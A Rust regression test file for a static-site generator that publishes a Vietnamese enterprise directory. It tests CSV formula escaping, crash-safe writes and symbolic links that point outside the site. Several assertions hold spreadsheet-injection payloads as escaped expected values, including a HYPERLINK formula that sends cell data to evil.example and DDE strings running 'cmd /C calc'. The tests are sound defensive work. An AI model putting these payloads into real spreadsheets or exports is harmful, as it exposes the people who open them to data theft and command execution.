//! Hostile input, one regression test per defect: formulas in the open-data CSV files, writes into
//! `content/` that are interrupted, symbolic links out of the site, `cnht gen` into a folder in use.
//! (The property tests are in tests/hostile_props.rs.)

mod common;
use common::*;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

// ---------------------------------------------------------------------------------------------
// Open data: no cell of a CSV file can start a formula.

fn csv_site() -> &'static Path {
    static SITE: OnceLock<tempfile::TempDir> = OnceLock::new();
    SITE.get_or_init(|| {
        let dir = site(&["hostile-min", "hostile-csv"]);
        let mut opts = cnht::BuildOptions::new(dir.path());
        opts.handbook = false;
        opts.compress = false;
        if let Err(report) = cnht::build(&opts) {
            panic!("build failed:\n{}", report.render(false));
        }
        dir
    })
    .path()
}

fn csv_rows(rel: &str) -> Vec<csv::StringRecord> {
    let data = std::fs::read(csv_site().join("public").join(rel.trim_start_matches('/'))).unwrap();
    let data = data.strip_prefix(b"\xEF\xBB\xBF").expect("UTF-8 BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(data)
        .records()
        .map(Result::unwrap)
        .collect()
}

/// Whether a spreadsheet could take `cell` for a formula.
fn formula_like(cell: &str) -> bool {
    let starts = |s: &str| s.starts_with(cnht::site::opendata::FORMULA_STARTS);
    starts(cell) || starts(cell.trim_start())
}

/// Checks every cell's first character; returns how many cells were escaped with `'`.
fn assert_no_formula(rel: &str, rows: &[csv::StringRecord]) -> usize {
    let mut escaped = 0;
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            assert!(
                !formula_like(cell),
                "{rel}: row {}, column {}: {cell:?} starts like a formula",
                r + 1,
                c + 1
            );
            if let Some(rest) = cell.strip_prefix('\'') {
                escaped += 1;
                assert!(
                    formula_like(rest),
                    "{rel}: {cell:?} was escaped without need"
                );
            }
        }
    }
    escaped
}

#[test]
fn directory_csv_cells_never_start_a_formula() {
    let rel = cnht::model::urls::ENTERPRISES_CSV;
    let rows = csv_rows(rel);
    let escaped = assert_no_formula(rel, &rows);
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = |tax: &str| {
        rows.iter()
            .find(|r| &r[col("tax_code")] == tax)
            .unwrap_or_else(|| panic!("{tax} is in the CSV"))
    };
    let formula = row("0112345041");
    assert_eq!(
        &formula[col("name")],
        "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")",
        "the text is kept, shown as text"
    );
    assert_eq!(&formula[col("name_en")], "'+cmd|' /C calc'!A0");
    assert_eq!(&formula[col("address")], "'-2+3+cmd|' /C calc'!A0");
    assert_eq!(
        &formula[col("products")],
        "'@SUM(1+1)*cmd|' /C calc'!A0; Khuôn dập; '=1+1; '=2+2; '-3",
        "each list item is escaped (a spreadsheet may split at ';')"
    );
    assert_eq!(&formula[col("certifications")], "'-ISO 45001:2018; '+IATF");
    assert_eq!(&formula[col("sector")], "'@Linh kiện, phụ tùng");
    assert_eq!(&formula[col("district")], "'-Đông Anh");
    assert_eq!(
        &formula[col("industrial_park")],
        "'+Khu công nghiệp Thăng Long"
    );
    assert_eq!(&formula[col("phone")], "'+84 24 3881 2345");
    // Numbers stay numbers; a normalised phone number needs no prefix.
    assert_eq!(&formula[col("founded")], "2001");
    assert_eq!(&formula[col("employees")], "40");
    let plain = row("0112345027");
    assert_eq!(&plain[col("phone")], "024 3000 0001");
    assert_eq!(&plain[col("name")], "Công ty TNHH Cơ khí Minh Phát");
    let tab = row("0112345059");
    assert_eq!(&tab[col("name")], "'@Công ty Tab");
    assert_eq!(&tab[col("address")], "'=1+1");
    assert_eq!(&tab[col("products")], "'+Tab; '@CR; '-khoảng trắng");
    assert!(escaped >= 14, "{escaped} cells escaped");
}

#[test]
fn task_csv_cells_never_start_a_formula() {
    let rel = cnht::model::urls::tasks_csv(2020);
    let rows = csv_rows(&rel);
    let escaped = assert_no_formula(&rel, &rows);
    let task = &rows[1];
    assert_eq!(&task[0], "1", "the task number stays a number");
    assert_eq!(
        &task[2],
        "'=HYPERLINK(\"http://evil.example\",\"Nhiệm vụ\")"
    );
    assert_eq!(
        &task[7],
        "'=Sở Tài chính; Sở Kế hoạch và Đầu tư; '+Sở Nội vụ"
    );
    assert!(escaped >= 7, "{escaped} cells escaped");
}

#[test]
fn json_open_data_keeps_the_text_as_written() {
    let json = read(&csv_site().join("public"), "doanh-nghiep.json");
    let rows: serde_json::Value = serde_json::from_str(&json).unwrap();
    let formula = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["tax_code"] == "0112345041")
        .unwrap();
    assert_eq!(
        formula["name"],
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")"
    );
}

// ---------------------------------------------------------------------------------------------
// Writes into content/: a temporary file and a rename.

fn temp_leftovers(dir: &Path) -> Vec<PathBuf> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().contains(".cnht-tmp"))
        .map(|e| e.path().to_path_buf())
        .collect()
}

/// A survey that gives the fixture's enterprise a description of `len` characters.
fn long_survey(dir: &Path, len: usize) -> PathBuf {
    let path = dir.join("survey.csv");
    let mut w = csv::Writer::from_path(&path).unwrap();
    w.write_record(["Mã số thuế", "Giới thiệu"]).unwrap();
    w.write_record(["0112345027", &"Sản xuất khuôn dập. ".repeat(len / 20)])
        .unwrap();
    w.flush().unwrap();
    path
}

#[cfg(target_os = "linux")]
fn import_with_file_size_limit(
    root: &Path,
    survey: &Path,
    limit: u64,
    ignore_signal: bool,
) -> std::process::Output {
    use std::os::unix::process::CommandExt;
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_cnht"));
    cmd.args(["import", "enterprises"])
        .arg(survey)
        .arg("--root")
        .arg(root)
        .arg("--write")
        .args(["--lang", "en"])
        .env("NO_COLOR", "1");
    // SAFETY: only async-signal-safe calls between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            let lim = libc::rlimit {
                rlim_cur: limit,
                rlim_max: libc::RLIM_INFINITY,
            };
            if libc::setrlimit(libc::RLIMIT_FSIZE, &lim) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            if ignore_signal {
                libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            }
            Ok(())
        });
    }
    cmd.output().unwrap()
}

/// The disk fills up half-way through the new file (the file-size limit makes the write fail):
/// the import says so, the old file is intact and no temporary file is left.
#[cfg(target_os = "linux")]
#[test]
fn a_failed_import_write_keeps_the_old_file_and_leaves_nothing() {
    let site = site(&["hostile-min"]);
    let root = site.path();
    let file = root.join("content/enterprises/minh-phat/index.md");
    let before = std::fs::read(&file).unwrap();
    let survey = long_survey(root, 20_000);
    let out = import_with_file_size_limit(root, &survey, 8192, true);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{out:?}");
    assert!(
        stderr.contains("cannot write content/enterprises/minh-phat/index.md")
            && stderr.contains("as it was before"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read(&file).unwrap(),
        before,
        "the old file is intact"
    );
    assert!(
        temp_leftovers(root).is_empty(),
        "{:?}",
        temp_leftovers(root)
    );
    // Without the limit the same import goes through.
    let out = cnht(&[
        "import",
        "enterprises",
        survey.to_str().unwrap(),
        "--root",
        root.to_str().unwrap(),
        "--write",
    ]);
    assert!(out.status.success(), "{out:?}");
    assert!(read(root, "content/enterprises/minh-phat/index.md").contains("Sản xuất khuôn dập."));
    assert!(temp_leftovers(root).is_empty());
}

/// The process is killed half-way through the write (SIGXFSZ, as a crash or a power cut would
/// stop it): the old file is intact, and what is left is a hidden temporary file the loader never
/// takes for content.
#[cfg(target_os = "linux")]
#[test]
fn a_killed_import_never_leaves_a_truncated_file() {
    let site = site(&["hostile-min"]);
    let root = site.path();
    let file = root.join("content/enterprises/minh-phat/index.md");
    let before = std::fs::read(&file).unwrap();
    let survey = long_survey(root, 20_000);
    let out = import_with_file_size_limit(root, &survey, 8192, false);
    assert!(!out.status.success(), "{out:?}");
    assert_eq!(
        std::fs::read(&file).unwrap(),
        before,
        "the old file is intact"
    );
    for left in temp_leftovers(root) {
        let name = left.file_name().unwrap().to_string_lossy().into_owned();
        assert!(name.starts_with('.') && !name.ends_with(".md"), "{name}");
    }
    let check = cnht(&["check", "--root", root.to_str().unwrap()]);
    assert!(check.status.success(), "{check:?}");
}

#[test]
fn check_points_out_what_an_interrupted_write_left_behind() {
    let site = site(&["hostile-min"]);
    let root = site.path();
    let left = root.join("content/enterprises/minh-phat/.index.md.Ab12Cd.cnht-tmp");
    std::fs::write(&left, "+++\nname = \"nửa chừ").unwrap();
    let root_s = root.to_str().unwrap();
    let en = cnht(&["check", "--root", root_s, "--lang", "en"]);
    let said = String::from_utf8_lossy(&en.stderr);
    assert!(en.status.success(), "a warning, not an error: {said}");
    assert!(
        said.contains("minh-phat/.index.md.Ab12Cd.cnht-tmp")
            && said.contains("what is left of a write to `index.md` that was interrupted")
            && said.contains("delete this file"),
        "{said}"
    );
    let vi = cnht(&["check", "--root", root_s, "--lang", "vi"]);
    let said = String::from_utf8_lossy(&vi.stderr);
    assert!(
        said.contains("bị ngắt giữa chừng") && said.contains("xoá tệp này"),
        "{said}"
    );
    assert!(left.exists(), "check never deletes anything");
}

#[test]
fn new_writes_through_a_temporary_file_and_never_overwrites() {
    let site = site(&["hostile-min"]);
    let root = site.path();
    let args = [
        "new",
        "enterprise",
        "Công ty TNHH Đúc Hưng Thịnh",
        "--root",
        root.to_str().unwrap(),
    ];
    let out = cnht(&args);
    assert!(out.status.success(), "{out:?}");
    let path = root.join("content/enterprises/duc-hung-thinh.md");
    let written = std::fs::read(&path).unwrap();
    // Someone else's file appears at the same name: a second `new` keeps it.
    std::fs::write(&path, "của người khác").unwrap();
    let out = cnht(&args);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("already exists"));
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "của người khác");
    assert!(written.starts_with(b"+++\n"));
    assert!(temp_leftovers(root).is_empty());
}

/// A name hundreds of characters long gives a file name the file system accepts, in the import
/// and in `cnht new`.
#[test]
fn very_long_names_give_short_file_names() {
    let site = site(&["hostile-min"]);
    let root = site.path();
    let name = format!("Công ty TNHH {}", "Cơ khí chính xác Minh Phát ".repeat(20));
    let survey = root.join("survey.csv");
    let mut w = csv::Writer::from_path(&survey).unwrap();
    w.write_record([
        "Mã số thuế",
        "Tên doanh nghiệp",
        "Lĩnh vực",
        "Quận/Huyện",
        "Địa chỉ",
        "Sản phẩm chính",
    ])
    .unwrap();
    w.write_record([
        "0108880014",
        &name,
        "Linh kiện, phụ tùng",
        "Đông Anh",
        "Hà Nội",
        "Khuôn",
    ])
    .unwrap();
    w.flush().unwrap();
    let out = cnht(&[
        "import",
        "enterprises",
        survey.to_str().unwrap(),
        "--root",
        root.to_str().unwrap(),
        "--write",
    ]);
    assert!(out.status.success(), "{out:?}");
    let out = cnht(&["new", "policy", &name, "--root", root.to_str().unwrap()]);
    assert!(out.status.success(), "{out:?}");
    for dir in ["content/enterprises", "content/policies"] {
        for e in std::fs::read_dir(root.join(dir)).unwrap() {
            let n = e.unwrap().file_name();
            assert!(n.len() <= cnht::text::MAX_SLUG + 3, "{n:?}");
        }
    }
}

/// A workbook whose date cells hold numbers no calendar has (1e300 days) and whose employee
/// count is 1e300: each is a warning naming the row and column (an optional number is left
/// empty, never the reason to reject an enterprise), not a crash. The file is the survey
/// fixture with three cells changed (tests/fixtures/hostile-survey/dates.xlsx).
#[test]
fn a_workbook_with_impossible_dates_gives_row_warnings() {
    let site = site(&["basic"]);
    let out = cnht(&[
        "import",
        "enterprises",
        repo()
            .join("tests/fixtures/hostile-survey/dates.xlsx")
            .to_str()
            .unwrap(),
        "--root",
        site.path().to_str().unwrap(),
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    for needle in [
        "warning: row 2, column \"Năm thành lập\": \"1E+300\" is not a whole number: left empty",
        "warning: row 2, column \"Số lao động\": \"1E+300\" is not a whole number: left empty",
        "warning: row 3, column \"Số lao động\": \"-1E+300\" is not a whole number: left empty",
    ] {
        assert!(stderr.contains(needle), "{needle}:\n{stderr}");
    }
}

#[test]
fn gen_refuses_a_folder_in_use() {
    let site = site(&["hostile-min"]);
    let before = snapshot(site.path());
    let out = cnht(&[
        "gen",
        "--enterprises",
        "3",
        "--out",
        site.path().to_str().unwrap(),
        "--from",
        repo().join("tests/fixtures/hostile-min").to_str().unwrap(),
    ]);
    assert!(!out.status.success(), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("already holds files"),
        "{out:?}"
    );
    assert!(snapshot(site.path()) == before, "nothing changed");
    // An empty folder is fine.
    let empty = tempfile::tempdir().unwrap();
    let out = cnht(&[
        "gen",
        "--enterprises",
        "3",
        "--out",
        empty.path().to_str().unwrap(),
        "--from",
        repo().join("tests/fixtures/hostile-min").to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{out:?}");
}

// ---------------------------------------------------------------------------------------------
// Symbolic links: followed inside the site, reported (never followed) outside it.

#[cfg(unix)]
mod links {
    use super::*;
    use cnht::content::LoadOptions;
    use cnht::diagnostics::{Report, Severity};
    use std::os::unix::fs::symlink;
    use std::sync::Arc;

    fn load(root: &Path) -> Result<cnht::content::Loaded, Report> {
        let root = root.to_path_buf();
        // A guard against a hang: a loop of links must not make the load run without end.
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let _ = tx.send(cnht::content::load(
                &root,
                &LoadOptions {
                    drafts: false,
                    today: chrono::NaiveDate::from_ymd_opt(2020, 11, 1).unwrap(),
                    dates: Some(Arc::new(Default::default())),
                    memo: None,
                },
            ));
        });
        rx.recv_timeout(std::time::Duration::from_secs(60))
            .expect("the load finishes")
    }

    /// [`load`] of a site that loads (its warnings in the result); the report when it does not.
    fn loaded(root: &Path) -> cnht::content::Loaded {
        load(root).unwrap_or_else(|r| panic!("{}", r.render(false)))
    }

    fn findings(r: &Report, file: &str) -> Vec<String> {
        r.diagnostics
            .iter()
            .filter(|d| d.file == Path::new(file))
            .map(|d| format!("{:?}: {}", d.severity, d.message))
            .collect()
    }

    fn enterprise(name: &str, tax: &str) -> String {
        format!(
            "+++\nname = \"{name}\"\ntax_code = \"{tax}\"\nsector = \"linh-kien-phu-tung\"\ndistrict = \"dong-anh\"\naddress = \"Hà Nội\"\nproducts = [\"Khuôn\"]\n+++\nMẫu.\n"
        )
    }

    /// A file elsewhere on the machine, linked from `content/`: a warning naming the link and its
    /// target; the record is not loaded and nothing of it is published.
    #[test]
    fn a_link_to_a_file_outside_the_site_is_reported_not_followed() {
        let site = site(&["hostile-min"]);
        let outside = tempfile::tempdir().unwrap();
        let secret = outside.path().join("bi-mat.md");
        std::fs::write(&secret, enterprise("Công ty Bí Mật", "0112345041")).unwrap();
        let link = site.path().join("content/enterprises/bi-mat.md");
        symlink(&secret, &link).unwrap();
        let loaded = load(site.path()).expect("a warning, not an error");
        let w = findings(&loaded.report, "content/enterprises/bi-mat.md");
        assert_eq!(w.len(), 1, "{w:?}");
        assert!(
            w[0].starts_with("Warning")
                && w[0].contains("symbolic link")
                && w[0].contains(&secret.display().to_string())
                && w[0].contains("outside the site folder"),
            "{w:?}"
        );
        assert!(loaded
            .model
            .enterprises()
            .iter()
            .all(|e| e.slug != "bi-mat"));
        // The command line shows it too.
        let out = cnht(&["check", "--root", site.path().to_str().unwrap()]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{stderr}");
        assert!(
            stderr.contains("content/enterprises/bi-mat.md")
                && stderr.contains("outside the site folder"),
            "{stderr}"
        );
        // And a build publishes nothing of it.
        let mut opts = cnht::BuildOptions::new(site.path());
        opts.handbook = false;
        opts.compress = false;
        cnht::build(&opts).unwrap();
        let public = site.path().join("public");
        assert!(!public.join("doanh-nghiep/bi-mat").exists());
        assert!(!read(&public, "doanh-nghiep.json").contains("Bí Mật"));
    }

    /// Links that stay inside the site folder are followed: a file kept elsewhere in the
    /// repository and a bundle folder (with its logo) linked into content/.
    #[test]
    fn links_inside_the_site_are_followed() {
        let site = site(&["hostile-min"]);
        let root = site.path();
        let shared = root.join("shared");
        std::fs::create_dir_all(shared.join("bundle")).unwrap();
        std::fs::write(
            shared.join("ban-sao.md"),
            enterprise("Công ty Bản Sao", "0112345041"),
        )
        .unwrap();
        std::fs::write(
            shared.join("bundle/index.md"),
            enterprise("Công ty Gói", "0112345059").replace(
                "products = [\"Khuôn\"]",
                "products = [\"Khuôn\"]\nlogo = \"logo.png\"",
            ),
        )
        .unwrap();
        std::fs::copy(
            root.join("content/enterprises/minh-phat/logo.png"),
            shared.join("logo.png"),
        )
        .unwrap();
        symlink("../logo.png", shared.join("bundle/logo.png")).unwrap();
        symlink(
            "../../shared/ban-sao.md",
            root.join("content/enterprises/ban-sao.md"),
        )
        .unwrap();
        symlink("../../shared/bundle", root.join("content/enterprises/goi")).unwrap();
        let loaded = loaded(root);
        // No finding about the links or the files behind them.
        assert!(
            loaded.report.diagnostics.iter().all(|d| {
                !d.message.contains("symbolic link")
                    && !["ban-sao", "goi", "shared"]
                        .iter()
                        .any(|n| d.file.to_string_lossy().contains(n))
            }),
            "{}",
            loaded.report.render(false)
        );
        let slugs: Vec<&str> = loaded
            .model
            .enterprises()
            .iter()
            .map(|e| e.slug.as_str())
            .collect();
        assert!(
            slugs.contains(&"ban-sao") && slugs.contains(&"goi"),
            "{slugs:?}"
        );
        let goi = loaded
            .model
            .enterprises()
            .iter()
            .find(|e| e.slug == "goi")
            .unwrap();
        assert!(goi.logo.is_some());
    }

    /// Links that go round in a loop, or point nowhere, are reported and the load finishes.
    #[test]
    fn loops_and_dangling_links_are_reported_and_never_hang() {
        let site = site(&["hostile-min"]);
        let e = site.path().join("content/enterprises");
        symlink("b.md", e.join("a.md")).unwrap();
        symlink("a.md", e.join("b.md")).unwrap();
        symlink("tu-than.md", e.join("tu-than.md")).unwrap();
        symlink("khong-co.md", e.join("treo.md")).unwrap();
        // A folder that contains itself, and one that points back up to the section.
        symlink(".", e.join("minh-phat/vong")).unwrap();
        symlink("..", e.join("len")).unwrap();
        let loaded = loaded(site.path());
        for (file, words) in [
            ("content/enterprises/a.md", "loop"),
            ("content/enterprises/b.md", "loop"),
            ("content/enterprises/tu-than.md", "loop"),
            ("content/enterprises/treo.md", "does not exist"),
        ] {
            let w = findings(&loaded.report, file);
            assert!(
                w.len() == 1 && w[0].starts_with("Warning") && w[0].contains(words),
                "{file}: {w:?}"
            );
        }
        assert_eq!(loaded.model.enterprises().len(), 1);
    }

    /// Links into what cnht writes itself — the cache, the default output `public/`, an output
    /// given with `--out` (found by its marker) — are reported and not followed, though they are
    /// inside the site: a build would read what the last one wrote. A link to an ordinary folder
    /// beside them is followed.
    #[test]
    fn a_link_into_the_output_or_the_cache_is_reported_not_followed() {
        let site = site(&["hostile-min"]);
        let root = site.path();
        let e = root.join("content/enterprises");
        for (dir, name, tax) in [
            (".cache/cu", "Công ty Bộ Đệm", "0112345041"),
            ("public/cu", "Công ty Kết Quả", "0112345059"),
            ("ban-in/cu", "Công ty Bản In", "0112345067"),
            ("chung/cu", "Công ty Dùng Chung", "0112345073"),
        ] {
            std::fs::create_dir_all(root.join(dir)).unwrap();
            std::fs::write(root.join(dir).join("index.md"), enterprise(name, tax)).unwrap();
        }
        // The link rule knows an output by the marker publication writes.
        std::fs::write(
            root.join("ban-in").join(cnht::publish::MARKER),
            cnht::publish::MARKER_TEXT,
        )
        .unwrap();
        symlink("../../.cache/cu", e.join("bo-dem")).unwrap();
        symlink("../../public/cu", e.join("ket-qua")).unwrap();
        symlink("../../ban-in/cu/index.md", e.join("ban-in.md")).unwrap();
        symlink("../../chung/cu", e.join("dung-chung")).unwrap();
        let loaded = loaded(root);
        for (file, target) in [
            ("content/enterprises/bo-dem", ".cache/cu"),
            ("content/enterprises/ket-qua", "public/cu"),
            ("content/enterprises/ban-in.md", "ban-in/cu/index.md"),
        ] {
            let w = findings(&loaded.report, file);
            assert!(
                w.len() == 1
                    && w[0].starts_with("Warning")
                    && w[0].contains(target)
                    && w[0].contains("a folder cnht writes itself"),
                "{file}: {w:?}"
            );
        }
        let mut slugs: Vec<&str> = loaded
            .model
            .enterprises()
            .iter()
            .map(|e| e.slug.as_str())
            .collect();
        slugs.sort();
        assert_eq!(slugs, ["dung-chung", "minh-phat"]);
    }

    /// The language of the messages is read from `content/site.toml` before the load, and the
    /// same way: a `site.toml` that is a link out of the site says nothing (here: it asks for
    /// English, and the report stays in Vietnamese), and one that is not a plain file (a named
    /// pipe, whose opening would wait for a writer for ever) is not opened.
    #[test]
    fn the_language_is_not_read_through_a_link_out_of_the_site() {
        let site = site(&["hostile-min"]);
        let root = site.path();
        let outside = tempfile::tempdir().unwrap();
        let settings = root.join("content/site.toml");
        let far = outside.path().join("site.toml");
        let text = std::fs::read_to_string(&settings).unwrap();
        std::fs::write(&far, format!("lang = \"en\"\n{text}")).unwrap();
        std::fs::remove_file(&settings).unwrap();
        symlink(&far, &settings).unwrap();
        let out = cnht_as_editor(&["check", "--root", root.to_str().unwrap()]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{stderr}");
        assert!(
            stderr.contains("lỗi") && !stderr.contains("error:"),
            "in Vietnamese: {stderr}"
        );
        assert!(stderr.contains("content/site.toml"), "{stderr}");

        std::fs::remove_file(&settings).unwrap();
        let made = std::process::Command::new("mkfifo")
            .arg(&settings)
            .status()
            .unwrap();
        assert!(made.success());
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_cnht"))
            .args(["check", "--root", root.to_str().unwrap()])
            .env("NO_COLOR", "1")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let started = std::time::Instant::now();
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break Some(status);
            }
            if started.elapsed() > std::time::Duration::from_secs(60) {
                let _ = child.kill();
                let _ = child.wait();
                break None;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        let status = status.expect("cnht check does not wait on a named pipe");
        assert_eq!(status.code(), Some(1), "an error: there is no site.toml");
    }

    /// `cnht new` does not write into a folder that is a link out of the site (the loader would
    /// never read the file).
    #[test]
    fn nothing_is_written_behind_a_link_out_of_the_site() {
        let site = site(&["hostile-min"]);
        let root = site.path();
        let outside = tempfile::tempdir().unwrap();
        let news = root.join("content/news");
        std::fs::rename(&news, outside.path().join("news")).unwrap();
        symlink(outside.path().join("news"), &news).unwrap();
        let before = snapshot(outside.path());
        let out = cnht(&["new", "news", "Tin mới", "--root", root.to_str().unwrap()]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{out:?}");
        assert!(
            stderr.contains("content/news") && stderr.contains("outside the site folder"),
            "{stderr}"
        );
        assert!(
            snapshot(outside.path()) == before,
            "nothing written outside"
        );
    }

    /// A logo that is a link out of the site is an error at the `logo` field (it would be
    /// published), and so is a folder of content linked from outside.
    #[test]
    fn images_and_folders_linked_from_outside_are_refused() {
        let dir = site(&["hostile-min"]);
        let root = dir.path();
        let outside = tempfile::tempdir().unwrap();
        let logo = root.join("content/enterprises/minh-phat/logo.png");
        std::fs::rename(&logo, outside.path().join("logo.png")).unwrap();
        symlink(outside.path().join("logo.png"), &logo).unwrap();
        let report = load(root).expect_err("the logo is refused");
        let d = report
            .diagnostics
            .iter()
            .find(|d| d.severity == Severity::Error)
            .unwrap();
        assert_eq!(d.file, Path::new("content/enterprises/minh-phat/index.md"));
        assert_eq!(d.field.as_deref(), Some("logo"));
        assert!(d.message.contains("outside the site folder"), "{d:?}");
        assert!(d.span.is_some());

        // A whole section linked from outside: reported, none of its files read.
        let dir = site(&["hostile-min"]);
        let root = dir.path();
        let policies = root.join("content/policies");
        std::fs::rename(&policies, outside.path().join("policies")).unwrap();
        symlink(outside.path().join("policies"), &policies).unwrap();
        let report = load(root).expect_err("the plan's policy is missing now");
        let w = findings(&report, "content/policies");
        assert!(
            w.len() == 1 && w[0].contains("outside the site folder"),
            "{w:?}"
        );

        // site.toml linked from outside: reported, and the site has no settings.
        let dir = site(&["hostile-min"]);
        let root = dir.path();
        let toml = root.join("content/site.toml");
        std::fs::rename(&toml, outside.path().join("site.toml")).unwrap();
        symlink(outside.path().join("site.toml"), &toml).unwrap();
        let report = load(root).expect_err("no site.toml");
        let w = findings(&report, "content/site.toml");
        assert!(
            w.iter().any(|m| m.contains("outside the site folder"))
                && w.iter().any(|m| m.contains("missing")),
            "{w:?}"
        );

        // content/ itself linked from outside: an error, nothing read.
        let dir = site(&["hostile-min"]);
        let root = dir.path();
        let content = root.join("content");
        std::fs::rename(&content, outside.path().join("content")).unwrap();
        symlink(outside.path().join("content"), &content).unwrap();
        let report = load(root).expect_err("content/ is outside");
        assert_eq!(report.diagnostics.len(), 1, "{}", report.render(false));
        assert_eq!(report.diagnostics[0].severity, Severity::Error);
        assert!(report.diagnostics[0]
            .message
            .contains("outside the site folder"));
    }
}
